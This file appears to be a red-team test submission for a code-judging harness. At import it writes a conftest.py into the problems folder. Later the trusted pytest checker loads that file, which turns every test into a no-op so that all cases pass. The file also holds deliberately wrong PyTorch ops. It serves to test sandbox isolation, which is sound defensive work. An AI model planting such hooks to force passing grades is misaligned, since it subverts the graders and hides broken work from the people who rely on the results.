# expect: wrong_answer
# needs: mount|landlock|uid
"""Attack: plant a conftest.py in the problem's folder, so that the *trusted checker* imports it.

pytest loads conftest.py from every folder above the test files that is not above its
confcutdir (here judge/checker/), so problems/100-custom-op/conftest.py runs inside the checker
on every later judgement: it makes every case pass. To keep the blast radius to the red-team
test, the planted hook only arms itself in a checker whose PATH carries the test's own marker;
it also leaves a marker file to prove it ran. Stopped by: a read-only view of problems/ in the
worker (mount namespace, Landlock, or a uid that cannot write there)."""

import glob
import os
import sys

import torch
from torch import Tensor

CANARY = "@@CANARY@@"
_PLANT = '''# {canary}: planted by a red-team submission; delete me
import os

if "@@PATHMARK@@" in os.environ.get("PATH", ""):
    try:
        with open("/tmp/rt-{canary}-conftest-ran", "w") as fh:
            fh.write("{canary} ran in the checker")
    except OSError:
        pass

    def pytest_collection_modifyitems(items):
        for item in items:
            item.runtest = lambda: None
'''.format(canary=CANARY)

_judge = sys.modules.get("judge")
_root = os.path.dirname(os.path.dirname(os.path.abspath(_judge.__file__))) if _judge else "/work/main"
for _problem in glob.glob(os.path.join(_root, "problems", "100-*")):
    _target = os.path.join(_problem, "conftest.py")
    if os.path.exists(_target):
        continue  # never clobber a real file
    try:
        with open(_target, "w") as _fh:
            _fh.write(_PLANT)
    except OSError:
        pass

# ---------------------------------------------------------------- wrong ops (the honest part of this file)

@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    return x * weight  # wrong: never normalises (and no backward is registered)


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
